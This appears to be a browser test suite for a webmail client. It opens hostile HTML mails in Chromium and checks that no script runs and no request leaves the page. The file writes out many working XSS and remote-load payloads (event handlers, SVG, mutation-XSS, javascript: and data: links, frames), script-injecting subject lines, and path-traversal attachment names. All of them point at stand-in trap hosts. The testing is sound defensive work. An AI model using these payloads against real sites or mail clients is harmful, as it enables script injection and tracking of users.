/**
 * Hostile mail in a real browser. A trap answers for every name that a mail has: whatever leads Chromium there arrives in it,
 * and Chromium's own network log has it.
 */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { after, afterEach, before, describe, test } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { until } from '../harness.ts'
import { mail } from '../mailboxes.ts'
import { Inbox, skip } from './browser.ts'

/** Says that a script ran: to the console, which the test reads, and to the trap. */
const RUN = (name: string) =>
  `console.log('RAN ${name}');fetch('http://${name}.trap.example/');new Image().src='http://${name}.trap.example/'`
const url = (name: string) => `http://${name}.trap.example/x`

/** What mail has been seen to do to the programs that show it. */
const HOSTILE: Record<string, string> = {
  script: `<script>${RUN('script')}</script><script src="${url('script-src')}"></script><script type=module>import '${url('module')}'</script>`,
  handlers: `<img src=x onerror="${RUN('onerror')}"><body onload="${RUN('onload')}"><details open ontoggle="${RUN('toggle')}">
    <input autofocus onfocus="${RUN('focus')}"><video><source onerror="${RUN('source')}"></video><style onload="${RUN('style')}"></style>`,
  speculation: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url('speculation')}"]}]}</script>`,
  svg: `<svg onload="${RUN('svg')}"><script>${RUN('svg-script')}</script><image href="${url('svg-image')}"/><use href="${url('svg-use')}#a"/>
    <foreignObject><iframe srcdoc="<script>${RUN('foreign')}</script>"></iframe></foreignObject>
    <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN('svg-img')}'><image href='${url('svg-in-img')}'/></svg>">
    <animate attributeName=href values="javascript:${RUN('animate')}"/></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN('mutation')}&gt;">`,
  refresh: `<meta http-equiv=refresh content="0;url=${url('refresh')}"><meta http-equiv=refresh content="0;url=javascript:${RUN('refresh-js')}">`,
  base: `<base href="${url('base')}/" target=_top><img src=relative.png><link rel=stylesheet href=relative.css>`,
  forms: `<form id=f action="${url('form')}"><input name=secret value=1><button id=submit>Go</button></form>
    <form action="javascript:${RUN('form-js')}"><button id=submit-js>Go</button></form>`,
  css: `<style>@import '${url('import')}';@import url(//import2.trap.example/);@font-face{font-family:f;src:url(${url('font')})}
    *{font-family:f;background:url(${url('background')});cursor:url(${url('cursor')}),auto;list-style:url(${url('list')})}
    body:before{content:url(${url('content')})}</style><p style="background:image-set('${url('image-set')}' 1x)">text`,
  images: `<img src="${url('img')}"><img srcset="${url('srcset')} 2x"><picture><source srcset="${url('picture')}"><img></picture>
    <video poster="${url('poster')}" src="${url('video')}" autoplay></video><audio src="${url('audio')}" autoplay></audio>
    <input type=image src="${url('input')}"><body background="${url('body')}"><table background="${url('table')}"><img src=//scheme.trap.example/>`,
  links: 'stylesheet preconnect dns-prefetch preload prefetch prerender modulepreload icon manifest import'
    .split(' ')
    .map(
      (rel) =>
        `<link rel="${rel}" as=image href="${url(`link-${rel}`)}"><LINK REL="${rel}" HREF="//2-${rel}.trap.example/">`,
    )
    .join(''),
  'dns of links': `<meta http-equiv=x-dns-prefetch-control content=on>${url('text-link')} <a href="${url('a-dns')}">a link</a><a href="${url('a-ping')}" ping="${url('ping')}">b</a>`,
  frames: `<iframe src="${url('iframe')}"></iframe><iframe srcdoc="<script>${RUN('srcdoc')}</script><img src=${url('srcdoc-img')}>"></iframe>
    <iframe src="javascript:${RUN('iframe-js')}"></iframe><iframe src="data:text/html,<script>${RUN('iframe-data')}</script>"></iframe><iframe src="/"></iframe>
    <IFRAME/src=${url('iframe2')}></IFRAME><iframe
src=${url('iframe3')} loading=lazy></iframe><portal src="${url('portal')}"></portal><fencedframe></fencedframe>`,
  frameset: `<frameset><frame src="${url('frame')}"><FRAME src='${url('frame2')}'></frameset>`,
  objects: `<object data="${url('object')}"></object><embed src="${url('embed')}"><object data="data:text/html,<script>${RUN('object')}</script>"></object>
    <embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN('embed')}'/>"><applet code="${url('applet')}">`,
  'javascript links': `<a id=js href="javascript:${RUN('js-link')}">one</a> <a id=js2 target=_blank href="java&#x0A;script:${RUN('js-link2')}">two</a>
    <a id=data href="data:text/html,<script>${RUN('data-link')}</script>">three</a> <a id=top target=_top href="/api/v1/messages">four</a>
    <a id=parent target=_parent href="javascript:${RUN('parent')}">five</a>`,
  broken: `<<script>${RUN('broken')}//<</script><lin\0k rel=preconnect href=${url('null')}><li<linknk rel=preconnect href=${url('nested')}><<iframe src=${url('twice')}><ifr<!-- -->ame src=${url('comment')}>
    <img src="${url('no-end')}" <link rel=preconnect href="${url('no-end2')}"`,
}
/** What is clicked, where a mail has it: nothing comes of it. */
const CLICKED = ['#submit', '#submit-js', '#js', '#js2', '#data', '#top', '#parent']

const NAMES = [
  '<img src=x onerror=console.log("RAN")>',
  '"><script>console.log("RAN")</script>',
  "');console.log('RAN');('",
  '#{console.log("RAN")} {{7*7}} &lt;b&gt; &amp;',
  '</title></style></textarea><svg onload=console.log("RAN")>',
  'javascript:console.log("RAN")',
  '__proto__',
  'right\u202eto left\u2066',
]
const encoded = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
const page = (subject: string, html: string) =>
  mail(
    ...['From: a@client.example', `Subject: ${subject}`, 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8'],
    ...['', html.replaceAll('\n', '\r\n')],
  )

describe('hostile mail', { skip }, () => {
  let inbox: Inbox
  let trap: Server
  /** What reached the trap: the first bytes of each connection. */
  let caught: string[] = []
  let browser: Browser
  let context: BrowserContext
  /** What scripts of mails said, and the requests to anything but the inbox. */
  let said: string[] = []
  let takeStrays: () => string[]
  let log = ''
  const ask = async (path: string) => (await inbox.world.ask(`GET /api/v1/${path}`)).body

  before(async () => {
    trap = createServer((socket) => {
      const at = caught.push('a connection') - 1
      socket.on('error', () => {})
      socket.once('data', (data) => {
        caught[at] = JSON.stringify(data.toString('latin1', 0, 1_000))
        socket.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n')
      })
    })
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve))
    inbox = await Inbox.start()
  })
  after(async () => {
    trap.close()
    await inbox?.remove()
  })
  afterEach(async () => inbox?.closePages())

  /** The page in a browser for which every name in the mails is the trap. */
  async function open(hash = ''): Promise<Page> {
    const { port } = trap.address() as { port: number }
    log = join(inbox.world.project.dir, 'net-log.json')
    const rules = `MAP *.example 127.0.0.1:${port}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1`
    browser = await inbox.launch(`--host-resolver-rules=${rules}`, `--log-net-log=${log}`)
    context = await inbox.context()
    caught = []
    said = []
    const strays: string[] = []
    const note = (to: string) => to.startsWith(inbox.url) || to.startsWith('data:image/') || strays.push(to)
    context.on('console', (message) => said.push(message.text()))
    context.on('response', (response) => note(response.url()))
    // What the policy forbids fails without having been sent.
    context.on('requestfailed', (request) => {
      const error = request.failure()?.errorText ?? ''
      if (!/^(csp|origin)$/.test(error)) note(`${request.url()} ${error}`)
    })
    takeStrays = () => strays.splice(0)
    const first = await context.newPage()
    await first.goto(`${inbox.url}${hash}`)
    await first.locator('.list[aria-busy=false]').waitFor()
    return first
  }
  /** What ran and what went anywhere since the last time. */
  function traces(): string[] {
    const ran = said.splice(0).filter((text) => text.startsWith('RAN'))
    return [...ran, ...takeStrays(), ...caught.splice(0).map((first) => `the trap: ${first}`)]
  }

  test('runs nothing, reaches nothing, and cannot read the page: in the page and as a page of its own', async (t) => {
    for (const [name, html] of Object.entries(HOSTILE))
      await inbox.deliver('hostile@gmail.com', page(`hostile ${name}`, html))
    const count = Object.keys(HOSTILE).length
    const list = () => ask('search?query=subject:hostile&limit=100')
    await until('all are there', async () => (await list()).messages_count === count)
    const found: string[] = []
    const shown = await open('#q=subject:hostile')
    for (const { ID, Subject } of (await list()).messages) {
      await shown.goto(`${inbox.url}#q=subject:hostile&id=${ID}`)
      await shown.getByRole('heading', { name: Subject, exact: true }).waitFor()
      const element = await shown.locator(`iframe[src*="${ID}"]`).elementHandle()
      const frame = await until('the frame', async () => (await element?.contentFrame()) ?? undefined)
      await frame.waitForLoadState('domcontentloaded')
      for (const selector of CLICKED) {
        const target = frame.locator(selector)
        if ((await target.count()) > 0)
          await target.click({ force: true, noWaitAfter: true, timeout: 5_000 }).catch(() => {})
      }
      for (const other of context.pages()) if (other !== shown) await other.close()
      assert.equal(await frame.evaluate('origin'), 'null', Subject)
      for (const wanted of ['parent.document.body', 'localStorage']) {
        const got = await frame.evaluate(`(() => { try { return ${wanted} } catch (e) { return e.name } })()`)
        assert.match(String(got), /SecurityError/)
      }
      assert.match(shown.url(), new RegExp(`id=${ID}$`), Subject)
      await sleep(150)
      found.push(...traces().map((trace) => `${Subject}: ${trace}`))

      const own = await context.newPage()
      await own.goto(`${inbox.url}view/${ID}.html`)
      assert.equal(await own.evaluate('origin'), 'null')
      await sleep(150)
      assert.equal(own.url(), `${inbox.url}view/${ID}.html`, Subject)
      await own.close()
      found.push(...traces().map((trace) => `${Subject} alone: ${trace}`))
    }
    await sleep(1_000)
    await browser.close()
    const names = readFileSync(log, 'utf8').match(/[\w-]+\.trap\.example/g) ?? []
    assert.deepEqual([...found, ...traces(), ...new Set(names)], [])
    t.diagnostic(`${count} mails, twice each: 0 connections, 0 requests, 0 names asked for`)
  })

  test('a link that somebody clicks opens a window of its own, which knows nothing of the inbox', async () => {
    await inbox.deliver('link@gmail.com', page('wanted', '<a id=a href="http://wanted.example/path">go</a>'))
    const shown = await open('#q=subject:wanted')
    await shown.locator('.row .subject').click()
    const links = [
      shown.frameLocator('iframe').locator('#a'),
      shown.getByRole('article').getByRole('link', { name: 'wanted.example/path' }),
    ]
    await links[0]?.waitFor()
    await links[1]?.hover()
    await sleep(300)
    assert.deepEqual(traces(), [])
    for (const link of links) {
      const [opened] = await Promise.all([context.waitForEvent('page'), link.click()])
      await opened.waitForLoadState()
      assert.equal(opened.url(), 'http://wanted.example/path')
      assert.equal(await opened.evaluate('opener'), null)
      await opened.close()
    }
    const asked = caught.filter((request) => request.startsWith('"GET /path'))
    assert.equal(asked.length, 2)
    for (const request of asked) assert.doesNotMatch(request, /referer:|127\.0\.0\.1/i)
  })

  test('subjects, senders and file names are text', async () => {
    for (const name of NAMES) {
      const file = `attachment; filename*=utf-8''${encodeURIComponent(`../../${name}.html`)}`
      const head = [`From: ${encoded(name)} <names@client.example>`, `Subject: ${encoded(`${name} names`)}`]
      const lines = [
        ...[...head, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=limit', '', '--limit', ''],
        ...[`text ${name}`, '--limit', 'Content-Type: text/html', `Content-Disposition: ${file}`, ''],
        ...['<script>console.log("RAN file")</script>', '--limit--'],
      ]
      await inbox.deliver('names@gmail.com', mail(...lines))
    }
    const shown = await open('#q=subject:names')
    await until('all', async () => (await shown.locator('.row .subject').count()) === NAMES.length)
    const elements = () =>
      shown.locator('#page :is(img, script, style, textarea, b > *), #page [onerror], #page [onload]').count()
    for (const [index, name] of [...NAMES].reverse().entries()) {
      assert.equal(await shown.locator('.row .subject').nth(index).textContent(), `${name} names`)
      await shown.locator('.row .subject').nth(index).click()
      await shown.getByRole('heading', { level: 2, name: `${name} names` }).waitFor()
      assert.equal(await shown.locator('.head dd').first().textContent(), `${name} <names@client.example>`)
      await until('the text', async () => (await shown.locator('pre').textContent())?.trim() === `text ${name}`)
      const link = shown.getByRole('group', { name: 'Attachments' }).getByRole('link')
      assert.doesNotMatch((await link.locator('span').textContent()) ?? '', /[/\\]/)
      const [download] = await Promise.all([shown.waitForEvent('download'), link.click()])
      assert.doesNotMatch(download.suggestedFilename(), /[/\\]|^\./)
      assert.equal(await elements(), 0)
      assert.equal(context.pages().length, 1)
    }
    assert.deepEqual(traces(), [])
  })

  test('a mail of 10 MB, and one with 5,000 recipients in its header, are opened like any other', async () => {
    const line = `${'0123456789 '.repeat(7)}\r\n`
    const long = line.repeat(9_900_000 / line.length)
    const people = Array.from({ length: 5_000 }, (_, i) => `u${i}@c.example`).join(',\r\n ')
    await inbox.deliver('big@gmail.com', page('big html', `<pre>${long}</pre>`))
    await inbox.deliver('big@gmail.com', mail('Subject: big text', '', long))
    await inbox.deliver('big@gmail.com', mail(`To: ${people}`, 'Subject: big header', '', 'text'))
    const shown = await open('#q=subject:big')
    const article = shown.getByRole('article')
    const choose = (subject: string) => shown.locator('.row').getByText(subject).click()
    await choose('big header')
    await article.getByText('4,950 more').waitFor()
    await shown.getByRole('tab', { name: 'Headers' }).click()
    const header = async () => (await article.locator('.headers').textContent()) ?? ''
    await until('the header', async () => (await header()).includes('u4999@c.example'))
    await choose('big text')
    for (const name of ['Source', 'Text']) {
      await shown.getByRole('tab', { name }).click()
      await article.getByText('The beginning of 9.').waitFor()
      assert.equal((await article.locator('pre').textContent())?.length, 500_000)
    }
    await choose('big html')
    await shown.getByRole('tab', { name: 'HTML' }).click()
    await shown.frameLocator('iframe').locator('pre').waitFor()
    await choose('big header')
    await shown.getByRole('heading', { name: 'big header' }).waitFor()
  })
})
